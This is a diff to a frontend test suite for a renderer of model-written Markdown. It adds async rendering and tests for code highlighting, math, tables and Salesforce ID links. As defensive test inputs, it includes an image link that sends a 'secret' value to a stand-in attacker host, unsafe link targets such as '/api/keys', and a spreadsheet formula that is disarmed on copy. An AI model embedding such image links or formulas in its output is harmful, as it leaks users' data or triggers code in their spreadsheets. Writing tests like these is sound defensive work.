@@ -9,26 +9,28 @@ import { TestProviders } from '../test-providers';
 
 const ID = '001D000000IqhSLIAZ';
 
-function show(
+async function show(
   markdown: string,
   { salesforceInstanceUrl, streaming }: { salesforceInstanceUrl?: string; streaming?: boolean } = {},
 ) {
   fakeApi({ 'GET /api/me': () => ({ models: [], agents: [], salesforceInstanceUrl }) });
-  return render(
+  const page = render(
     <TestProviders>
       <Markdown streaming={streaming}>{markdown}</Markdown>
     </TestProviders>,
   );
+  await waitFor(() => expect(page.container.querySelector('.whitespace-pre-wrap')).toBeNull());
+  return page;
 }
 
 describe('what a model wrote', () => {
   test('is drawn with headings under those of the page, lists, code and tables', async () => {
-    const { container } = show(
+    const { container } = await show(
       '# Findings\n\n- **one**\n- two\n\n`code`\n\n```sql\nselect 1\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n',
     );
     expect(screen.getByRole('heading', { level: 3, name: 'Findings' })).toBeTruthy();
     expect(screen.getAllByRole('listitem')).toHaveLength(2);
-    expect(screen.getByText('select 1')).toBeTruthy();
+    expect(container.querySelector('pre')?.textContent).toBe('select 1');
     expect(screen.getAllByRole('columnheader').map((h) => h.textContent)).toEqual(['a', 'b']);
     await expectNoAxeViolations(container);
   });
@@ -38,13 +40,13 @@ describe('what a model wrote', () => {
     ['```sh\n# a comment\n```\n\n#### Deep', [3]],
     ['# a\n\n## b\n\n### c\n\n#### d\n\n##### e', [3, 4, 5, 6, 6]],
     ['### Findings\n\n##### Accounts\n\n# Open\n\n### Deals', [3, 4, 3, 4]],
-  ])('has its headings from the third level on, none skipped: %j', (markdown, levels) => {
-    show(markdown);
+  ])('has its headings from the third level on, none skipped: %j', async (markdown, levels) => {
+    await show(markdown);
     expect(screen.getAllByRole('heading').map((heading) => Number(heading.tagName.slice(1)))).toEqual(levels);
   });
 
-  test('loads nothing: images, media and frames are gone, their description stays', () => {
-    const { container } = show(
+  test('loads nothing: images, media and frames are gone, their description stays', async () => {
+    const { container } = await show(
       [
         '![a chart](https://evil.example/p.png?q=secret)',
         '![pixel](data:image/png;base64,AAAA)',
@@ -74,28 +76,65 @@ describe('what a model wrote', () => {
     ['//evil.example', null],
     ['/api/keys', null],
     ['blob:https://example.com/1', null],
-  ])('a link to %s goes to %s', (address, href) => {
-    const { container } = show(`[here](${address})`);
+  ])('a link to %s goes to %s', async (address, href) => {
+    const { container } = await show(`[here](${address})`);
     expect(container.querySelector('a')?.getAttribute('href') ?? null).toBe(href);
     expect(container.textContent).toContain('here');
   });
 
-  test('opens links in a new tab that knows nothing of this one', () => {
-    show('[here](https://example.com)');
+  test('opens links in a new tab that knows nothing of this one', async () => {
+    await show('[here](https://example.com)');
     const link = screen.getByRole('link', { name: 'here' });
     expect(link.getAttribute('target')).toBe('_blank');
     expect(link.getAttribute('rel')).toBe('noopener noreferrer');
   });
 
-  test('is drawn while it is still being written, with what is open closed', () => {
-    const { container } = show('It is **very impor', { streaming: true });
+  test('is drawn while it is still being written, with what is open closed', async () => {
+    const { container } = await show('It is **very impor', { streaming: true });
     expect(container.querySelector('strong')?.textContent).toBe('very impor');
+  });
+});
+
+describe('what an answer needs now and then', () => {
+  test('code is coloured by its language, and what is in no language is as it was written', async () => {
+    const { container } = await show('```sql\nselect 1 -- one\n```\n\n```klingon\nqapla 1\n```');
+    await waitFor(() => expect(container.querySelector('.hljs-keyword')?.textContent).toBe('select'));
+    expect(container.querySelector('.hljs-comment')?.textContent).toBe('-- one');
+    expect(screen.getByText('qapla 1').querySelector('span')).toBeNull();
+  });
+
+  test.each([
+    ['$$x^2$$ is a square', 1, 0],
+    ['the area \\(\\pi r^2\\) of it', 1, 0],
+    ['\\[\n\\sum_i x_i\n\\]', 1, 1],
+    ['\\[ a + b \\]', 1, 1],
+    ['from $5 to $10, and `\\(x\\)` in code', 0, 0],
+    ['```tex\n\\[ a \\]\n```', 0, 0],
+  ])('mathematics is drawn in %j', async (markdown, formulas, displays) => {
+    const { container } = await show(markdown);
+    if (formulas > 0) await waitFor(() => expect(container.querySelectorAll('.katex')).toHaveLength(formulas));
+    else expect(container.querySelector('.katex')).toBeNull();
+    expect(container.querySelectorAll('.katex-display')).toHaveLength(displays);
+  });
+
+  test('a formula that is none is its source', async () => {
+    await show('$$\\frac{$$');
+    expect(await screen.findByText('\\frac{')).toBeTruthy();
+  });
+
+  test('numbers of a table stand under each other', async () => {
+    await show('| name | amount | note |\n|---|---|---|\n| Acme | € 1,200.50 | 3 |\n| Bolt | -12 % | none |');
+    const aligned = (name: string) => screen.getByRole('columnheader', { name }).style.textAlign;
+    expect([aligned('name'), aligned('amount'), aligned('note')]).toEqual(['', 'right', '']);
+    expect(screen.getByRole('cell', { name: '-12 %' }).style.textAlign).toBe('right');
   });
 });
 
 describe('Salesforce ids', () => {
   test('link to the configured instance, but not in code and not inside a link', async () => {
-    show(`See ${ID}, \`${ID}\` and [${ID}](https://example.com).`, { salesforceInstanceUrl: 'https://acme.my.salesforce.com' });
+    await show(`See ${ID}, \`${ID}\` and [${ID}](https://example.com).`, {
+      salesforceInstanceUrl: 'https://acme.my.salesforce.com',
+    });
     await waitFor(() => expect(screen.getAllByRole('link')).toHaveLength(2));
     expect(screen.getAllByRole('link').map((link) => link.getAttribute('href'))).toEqual([
       `https://acme.my.salesforce.com/${ID}`,
@@ -103,8 +142,8 @@ describe('Salesforce ids', () => {
     ]);
   });
 
-  test('stay text without an instance', () => {
-    show(`See ${ID}.`);
+  test('stay text without an instance', async () => {
+    await show(`See ${ID}.`);
     expect(screen.queryByRole('link')).toBeNull();
   });
 });
@@ -112,7 +151,7 @@ describe('Salesforce ids', () => {
 describe('a table', () => {
   test('is copied with its own cells, formulas disarmed', async () => {
     const user = userEvent.setup();
-    show('| name | sum |\n|---|---|\n| Acme | =1+1 |\n');
+    await show('| name | sum |\n|---|---|\n| Acme | =1+1 |\n');
     await user.click(screen.getByRole('button', { name: 'Copy table' }));
     expect(await navigator.clipboard.readText()).toBe("name\tsum\nAcme\t'=1+1");
   });
